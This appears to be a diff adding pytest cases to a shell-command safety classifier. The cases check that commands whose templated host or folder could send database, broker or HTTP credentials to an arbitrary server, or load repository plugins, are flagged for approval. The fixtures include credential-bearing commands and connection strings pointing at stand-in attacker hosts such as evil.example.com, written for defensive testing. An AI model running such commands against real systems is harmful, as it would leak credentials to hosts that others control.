@@ -23,10 +23,129 @@ from __future__ import annotations
 
 import base64
 import json
+import shlex
 
 import pytest
 
 from engine.datasources import MASK, Redactor
+from engine.effects import Templated, classify, step_verdict
+from engine.effects.bash import bash_verdict
+from tests.engine.effects.test_hostile_reads import compiled, ungated_commands
+
+
+def _argv(line: str) -> list[str]:
+    words = shlex.split(line.replace("{{ ", "{{").replace(" }}", "}}"))
+    return [Templated(w) if "{{" in w or "$" in w else w for w in words]
+
+
+# -- 1. the server a value picks gets the password ---------------------------------------------
+
+SENDS_PASSWORD = [
+    "psql -h {{ inputs.host }} -c 'select 1'", "psql --host={{ inputs.host }} -c 'select 1'",
+    "gitlab-psql -h {{ inputs.host }} -c 'select 1'",
+    "mysql -h {{ inputs.host }} -e 'select 1'", "mysqladmin -h {{ inputs.host }} status",
+    "redis-cli -h {{ inputs.host }} -a pw INFO", "redis-cli -u {{ inputs.url }} INFO",
+    "nats -s {{ inputs.host }} --user u --password p stream ls",
+    "nats --server {{ inputs.host }} --creds /etc/nats/x.creds stream ls",
+    "mosquitto_sub -h {{ inputs.host }} -u u -P p -t x -C 1",
+    "cqlsh {{ inputs.host }} -e 'select * from t'",
+    "openstack --os-auth-url {{ inputs.url }} server list",
+    "kafka-topics --bootstrap-server {{ inputs.host }} --command-config /etc/k.properties --list",
+    "helm show values x --repo {{ inputs.url }} --username u --password p",
+    "curl -s https://u:pw@{{ inputs.host }}/api", "wget -qO- https://u:pw@{{ inputs.host }}/",
+    "curl -s https://{{ inputs.host }}/api?access_token=abc",
+]
+
+
+@pytest.mark.parametrize("line", SENDS_PASSWORD)
+def test_a_value_never_picks_the_server_that_gets_a_password(line: str) -> None:
+    found = classify(_argv(line))
+    assert found.effect == "mutate" and "sends its credentials" in found.reason, line
+
+
+@pytest.mark.parametrize("line", [
+    "psql -h $DB_HOST -c 'select 1'", "redis-cli -h $REDIS_HOST -a $REDIS_PASSWORD INFO",
+    "mysql -h $DB_HOST -e 'select 1'",
+])
+def test_such_a_line_compiles_behind_an_approval(line: str) -> None:
+    assert ungated_commands(compiled("argv", line)) == [], line
+
+
+def test_a_dbname_rendered_to_a_connection_string_is_judged_when_rendered() -> None:
+    # a `name` value may be `postgresql://host/db`: psql takes it as a connection string
+    for argv in (["psql", Templated("postgresql://evil.example.com/app"), "-c", "select 1"],
+                 ["psql", "-d", Templated("postgresql://evil.example.com/app"), "-c", "x"],
+                 ["psql", Templated("--dbname=postgresql://evil/app"), "-c", "select 1"]):
+        assert not classify(argv).read, argv
+    planned = {"pipeline": [["psql", "{{ inputs.db }}", "-c", "select 1"]]}
+    rendered = {"pipeline": [["psql", "postgresql://evil.example.com/app", "-c", "select 1"]]}
+    assert not step_verdict("shell", rendered, plan_params=planned).read
+    assert step_verdict("shell", {"pipeline": [["psql", "app", "-c", "select 1"]]},
+                        plan_params=planned).read
+
+
+@pytest.mark.parametrize("line", [
+    "psql -h db.internal -c 'select 1'", "psql -U {{ inputs.user }} app -c 'select 1'",
+    "psql {{ inputs.db }} -c 'select 1'", "redis-cli -h cache.internal INFO",
+    "redis-cli GET {{ inputs.key }}", "mysql -e 'select 1' {{ inputs.db }}",
+    "kafka-topics --bootstrap-server {{ inputs.host }} --list",
+    "helm template web ./chart", "pg_isready -h {{ inputs.host }}",
+    "curl -s https://{{ inputs.host }}/metrics", "curl -s 'https://{{ inputs.host }}/?q=up'",
+    "curl -s 'https://status.example.com/?token={{ inputs.t }}'",
+])
+def test_a_server_the_guide_names_or_no_password_stays_a_read(line: str) -> None:
+    assert classify(_argv(line)).read, (line, classify(_argv(line)).reason)
+
+
+# -- 2. the repository or folder a value picks ---------------------------------------------------
+
+@pytest.mark.parametrize("line", ["git -C {{ inputs.dir }} status", "git -C{{ inputs.dir }} log",
+                                  "git --git-dir={{ inputs.dir }} log -3",
+                                  "git -C /srv/{{ inputs.app }} diff"])
+def test_a_value_never_picks_the_repository_git_reads(line: str) -> None:
+    found = classify(_argv(line))
+    assert found.effect == "mutate" and "core.fsmonitor" in found.reason, found.reason
+    assert classify(["git", "-C", "/srv/app", "status"]).read
+
+
+def test_git_with_a_value_for_its_folder_compiles_behind_an_approval() -> None:
+    assert ungated_commands(compiled("argv", 'git -C "$REPO_DIR" log -3')) == []
+
+
+@pytest.mark.parametrize(("script", "said"), [
+    ('cd "$DIR" && git status', "core.fsmonitor"), ("(cd $D && git log -1)", "core.fsmonitor"),
+    ('cd "$DIR"; terraform validate', "provider plugins"),
+    ("pushd $DIR && terraform providers", "provider plugins"),
+    ("cd /srv/$APP && git diff", "core.fsmonitor"),
+    ("cd $D && haproxy -c -f haproxy.cfg", "lua-load"),
+    ("cd $D && kubectl --kubeconfig=kc get pods", "exec plugin"),
+])
+def test_a_folder_a_value_picks_is_where_the_tool_loads_from(script: str, said: str) -> None:
+    found = bash_verdict(script)
+    assert found.effect == "mutate" and said in found.reason, found.reason
+
+
+@pytest.mark.parametrize("script", ["cd $D && ls -l", "cd /srv/app && git status",
+                                    "cd $D && haproxy -c -f /etc/haproxy/haproxy.cfg",
+                                    "git status; ls $D"])
+def test_other_reads_in_that_folder_stay_reads(script: str) -> None:
+    assert bash_verdict(script).read, bash_verdict(script).reason
+
+
+@pytest.mark.parametrize(("plugin", "params"), [
+    ("shell", {"pipeline": [["git", "status"]], "cwd": "{{ inputs.dir }}"}),
+    ("shell", {"pipeline": [["terraform", "validate"]], "cwd": "/srv/{{ inputs.app }}"}),
+    ("bash", {"script": "git log -1", "cwd": "{{ inputs.dir }}"}),
+])
+def test_a_steps_cwd_from_a_value_counts_as_that_folder(plugin: str, params: dict) -> None:
+    rendered = {**params, "cwd": "/tmp/evil"}
+    assert not step_verdict(plugin, rendered, plan_params=params).read
+    assert not step_verdict(plugin, params).read  # as the compiler asks, unrendered
+    literal = {**params, "cwd": "/srv/app"}
+    assert step_verdict(plugin, literal, plan_params=literal).read
+    ls = {**params, "pipeline": [["ls"]], "script": "ls"}
+    assert step_verdict(plugin, {**ls, "cwd": "/tmp/evil"}, plan_params=ls).read
+
 
 # -- 3. base64 inside base64 --------------------------------------------------------------------
 
